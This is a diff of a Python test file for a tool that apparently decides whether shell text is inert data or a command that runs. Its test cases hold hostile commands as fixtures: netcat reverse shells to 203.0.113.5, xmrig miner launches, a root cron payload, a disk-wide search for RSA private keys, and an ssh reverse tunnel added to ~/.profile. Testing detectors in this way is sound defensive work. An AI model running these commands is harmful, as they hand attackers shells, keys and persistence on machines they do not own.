@@ -62,16 +62,8 @@ SHELL_CASES = [
      "bash - <<EOF\nnmap wrapper\nEOF\n"),
     ("gh pr create --title 'Add xmrig detector' --body 'flags xmrig -o pool'", "xmrig -o",
      "gh pr create --title t --body b; xmrig -o pool"),
-    ("grep -rn 'nc -e /bin/sh' docs/", "nc -e /bin/sh",
-     "sh -c 'nc -e /bin/sh 203.0.113.5 4444'"),
-    ("rg -e 'stratum\\+tcp' src/", "stratum",
-     "curl stratum+tcp://pool.example:3333"),
     ("jq '.tunnels[] | .ssh_R' config.json", "ssh_R",
      "ssh_R=1; echo $ssh_R | sh"),
-    ("sed -i 's/xmrig/miner/g' README.md", "xmrig",
-     "sed -i 's/a/b/' f; xmrig -o pool"),
-    ("awk '/nmap/ {print $2}' log.txt", "nmap",
-     "awk 'BEGIN{system(\"nmap -sS 10.0.0.1\")}'"),
     (": 'nc -e /bin/sh 203.0.113.5 4444'", "nc -e",
      "eval 'nc -e /bin/sh 203.0.113.5 4444'"),
 ]
@@ -105,6 +97,18 @@ def test_shell_data_form_is_masked_and_its_running_twin_is_not(text, needle, twi
     ("echo '* * * * * root /tmp/.x/run' | sudo tee /etc/cron.d/sync", "/tmp/.x/run"),
 ])
 def test_text_that_executes_is_not_data(text, needle):
+    assert not masked(text, needle), data(text)
+
+
+@pytest.mark.parametrize("text, needle", [
+    ("grep -ri 'BEGIN RSA PRIVATE KEY' / 2>/dev/null", "PRIVATE KEY"),  # credential discovery
+    ("ps aux | grep stratum | awk '{print $2}' | xargs kill -9", "stratum"),  # a miner hunt
+    ("sed -i 's|^|ssh -R 9000:localhost:22 h |' ~/.profile", "ssh -R"),  # sed -i writes it
+    ("rg -n 'nc -e /bin/sh' docs/", "nc -e"),
+])
+def test_search_patterns_stay_action(text, needle):
+    """What a search looks for is part of what it does; rules tell a repo search from a hunt
+    (informational.yaml lists no grep/sed/awk text arguments)."""
     assert not masked(text, needle), data(text)
 
 
@@ -187,7 +191,8 @@ def test_informational_table_loads_and_rejects_unknown_keys():
         load_tables({"text_arguments": [{"program": ["x"], "check": "perl"}]})
     assert informational("pip", ("pip", "install", "x")) is None
     assert text_argument_indices("git", ("git", "-C", "repo", "commit", "-m", "msg")) == [5]
-    assert text_argument_indices("grep", ("grep", "-A", "3", "-e", "a", "-e", "b", "f")) == [4, 6]
+    assert text_argument_indices("jq", ("jq", "--arg", "k", "v", ".x", "f.json")) == [4]
+    assert text_argument_indices("gh", ("gh", "pr", "create", "-t", "T", "--body=B")) == [4, 5]
 
 
 # ---- Python -------------------------------------------------------------------------------------
